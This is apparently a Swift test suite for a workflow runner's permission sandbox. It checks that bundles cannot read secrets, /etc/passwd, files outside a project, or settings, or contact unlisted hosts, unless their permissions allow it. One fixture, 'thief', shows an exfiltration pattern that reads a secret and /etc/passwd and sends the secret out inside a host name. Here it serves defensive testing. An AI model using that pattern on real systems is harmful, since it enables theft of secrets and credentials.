import FileKit
import Glibc
import JSON
import Testing

@Suite("Bundle permissions", .timeLimit(.minutes(5)))
struct RunnerReachTests {
    /// A bundle that sends a secret as a part of a host name.
    private static let thief = """
        name: thief
        env: {key: {secret: demo}}
        steps:
          - {id: key, action: auth.secret.get, with: {name: demo}}
          - {id: users, action: file.read, with: {path: /etc/passwd}}
          - {id: away, action: gateway.status, with: {address: "http://${{ replace(steps.key.result, '-', 'x') }}.localhost:1"}}
        """

    // finding R.B4
    @Test("Secrets and files elsewhere are refused, and the check names the permissions to add") func thief()
        async throws
    {
        try await RunnerHome.with { home in
            try home.write(Self.thief)
            let refused = try await home.martlet("run", "b.yaml", adding: ["DEMO_API_KEY": "very-secret-4711"])
            #expect(refused.code == 2 && refused.output == "")
            let lines = refused.errors.lines
            #expect(lines.count == 3, "\(refused.errors)")
            #expect(lines.count { $0.hasSuffix("add secrets: [\"demo\"] to permissions") } == 2)
            #expect(
                lines.last?.hasSuffix("may not read /etc/passwd; add paths: [., \"/etc\"] to permissions") == true)
        }
    }

    @Test("Added permissions allow secrets and files, but not other servers") func permitted()
        async throws
    {
        try await RunnerHome.with { home in
            try home.write(Self.thief + "\npermissions: {secrets: [demo], paths: [., /etc]}")
            let run = try await home.martlet("run", "b.yaml", "--json", adding: ["DEMO_API_KEY": "very-secret-4711"])
            let steps = try run.output.json()["steps"]
            #expect(steps?[1]?["status"] == "ok" && steps?[2]?["status"] == "failed", "\(run.output)")
            let refusal = steps?[2]?["error"]?["message"]?.string ?? ""
            #expect(
                refusal.contains("may not connect to veryxsecretx4711.localhost:1; add hosts: [set-up, "), "\(refusal)")
            // The control: a listed server is contacted and does not answer.
            try home.write(Self.thief + "\npermissions: {secrets: [demo], paths: [., /etc], hosts: ['*.localhost']}")
            let named = try await home.martlet("run", "b.yaml", "--json", adding: ["DEMO_API_KEY": "very-secret-4711"])
            let reason = try named.output.json()["steps"]?[2]?["error"]?["message"]?.string ?? ""
            #expect(!reason.isEmpty && !reason.contains("may not connect"), "\(reason)")
        }
    }

    @Test("A model in a step cannot use file tools unless the bundle permits them")
    func mode()
        async throws
    {
        try await RunnerHome.with { home in
            let step = """
                steps:
                  - action: chat.send
                    with: {message: 'replace "the" by "a" in README.md', model: martlet, mode: full}
                """
            // A model does not work in a home.
            let alone = ["OLLAMA_HOST": "http://127.0.0.1:1", "HOME": home.top]
            try home.write("the end\n", "README.md")
            try home.write("name: b\npermissions: {effects: writes}\n\(step)\n")
            let refused = try await home.martlet("run", "b.yaml", adding: alone)
            #expect(refused.code == 6 && refused.output.contains("nobody was there to approve"), "\(refused.output)")
            #expect(try home.read("README.md") == "the end\n")
            try home.write("name: b\npermissions: {effects: writes, tools: [\"files/*\"]}\n\(step)\n")
            let permitted = try await home.martlet("run", "b.yaml", adding: alone)
            #expect(permitted.code == 0, "\(permitted.output)")
            #expect(try home.read("README.md") == "a end\n")
        }
    }

    @Test("A project's bundle reaches the project's folder, wherever it is started") func project() async throws {
        try await RunnerHome.with { home in
            try home.write("inside", "project/notes.txt")
            try home.write("outside", "outside.txt")
            try #require(unsafe symlink("../outside.txt", "\(home.path)/project/link.txt") == 0)
            let folder = "\(home.path)/project"
            for (file, code) in [("notes.txt", nil), ("../outside.txt", "access.denied"), ("link.txt", "file.denied")] {
                try home.write(
                    "name: b\nsteps: [{action: file.read, with: {path: \"${{ '\(folder)' }}/\(file)\"}}]",
                    "project/.martlet/bundles/b.yaml")
                let run = try await home.martlet("run", "project/.martlet/bundles/b.yaml", "--json")
                let step = try run.output.json()["steps"]?[0]
                #expect(step?["error"]?["code"]?.string == code, "\(file): \(run.output)\(run.errors)")
                #expect((run.code == 0) == (code == nil))
            }
        }
    }

    @Test("A model gets no tools in a folder with Martlet's data, and a bundle cannot read it") func own() async throws
    {
        try await RunnerHome.with { home in
            let ask = """
                {action: chat.send, with: {message: "Read `a.txt`", model: martlet/martlet-offline, no-save: true}}
                """
            try home.write("inside", "a.txt")
            try home.write("name: b\npermissions: {actions: [chat.send]}\nsteps: [\(ask)]")
            let inside = try await home.martlet("run", "b.yaml", "--json")
            #expect(inside.code == 0 && inside.output.contains("inside"), "\(inside.output)\(inside.errors)")
            let above = try await Program.martlet.run(
                ["run", "work/b.yaml", "--json"], home: home.top, adding: home.variables)
            #expect(above.code == 2 && above.output.contains("which contains files of this program"), "\(above.output)")
            try home.write(
                "name: b\nsteps: [{action: file.read, with: {path: \"${{ 'martlet' }}/config/config.json\"}}]")
            let read = try await Program.martlet.run(
                ["run", "work/b.yaml", "--json"], home: home.top, adding: home.variables)
            #expect(read.output.contains("access.denied"), "\(read.output)")
        }
    }

    // finding R.B4, and from an attack: trust and settings are not covered by effects.
    @Test("A bundle cannot change settings, trust or tokens unless it permits the action") func rights() async throws {
        try await RunnerHome.with { home in
            for action in ["config.trust", "gateway.token.show", "auth.secret.lock"] {
                try home.write(
                    "name: b\npermissions: {effects: destroys, actions: ['*']}\nsteps: [{action: \(action)}]")
                let run = try await home.martlet("run", "b.yaml", "--check")
                #expect((run.code == 2) == (action != "auth.secret.lock"), "\(action): \(run.errors)")
                if run.code == 2 {
                    #expect(run.errors.contains("add \"\(action)\" to permissions.actions"), "\(run.errors)")
                }
            }
        }
    }

    @Test("The plan and the check show what a bundle reaches") func shown() async throws {
        try await RunnerHome.with { home in
            try home.write(
                "{name: b, permissions: {actions: [file.write], secrets: [demo], hosts: [lab.local]}, steps: [{action: version}]}"
            )
            for option in ["--plan", "--check"] {
                let shown = try await home.martlet("run", "b.yaml", option)
                let words = shown.output.lines.map { $0.split(separator: " ").joined(separator: " ") }
                for line in [
                    "may run reading actions, and file.write", "servers lab.local", "folders \(home.path)",
                    "secrets demo",
                    "allowed tools none",
                ] {
                    #expect(words.contains(line), "\(option): \(shown.output)")
                }
                #expect(
                    try await home.martlet("run", "b.yaml", option, "--format", "ndjson").output.contains("\"reach\":"))
            }
        }
    }
}
